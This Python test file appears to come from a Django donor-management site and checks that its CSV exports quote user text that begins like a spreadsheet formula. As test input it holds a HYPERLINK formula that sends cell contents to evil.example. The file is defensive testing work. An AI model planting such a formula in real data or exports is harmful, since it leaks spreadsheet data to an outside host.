"""Every CSV the site offers is safe to open in a spreadsheet: text a person typed that starts
like a formula (= + - @) is quoted, so it cannot run."""

import csv
import io

import pytest
from django.test import Client

from poolfund.api.tabular import FORMULA_TRIGGERS
from poolfund.donors import services as donor_services
from poolfund.donors.choices import DonorType
from tests.programmes.factories import Cast, note_in
from tests.programmes.factories import State as NoteState

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def cells(response) -> list[str]:
    assert response.status_code == 200, response
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]


def assert_no_formula(found: list[str], typed: str) -> None:
    assert "'" + typed in found, "the typed text is not in the export; the test checks nothing"
    assert not [cell for cell in found if cell.startswith(FORMULA_TRIGGERS)], found


def test_donor_names_are_quoted_in_the_api_csv(client: Client):
    donor = donor_services.create_donor(actor=None, name=FORMULA, donor_type=DonorType.OTHER)
    assert_no_formula(cells(client.get("/api/v1/donors/?format=csv&limit=1000")), donor.name)


def test_programme_titles_are_quoted_in_the_portfolio_export(client: Client):
    note_in(NoteState.JOINT_PROGRAMME, Cast.create(), title=FORMULA)
    assert_no_formula(cells(client.get("/programmes/export.csv")), FORMULA)
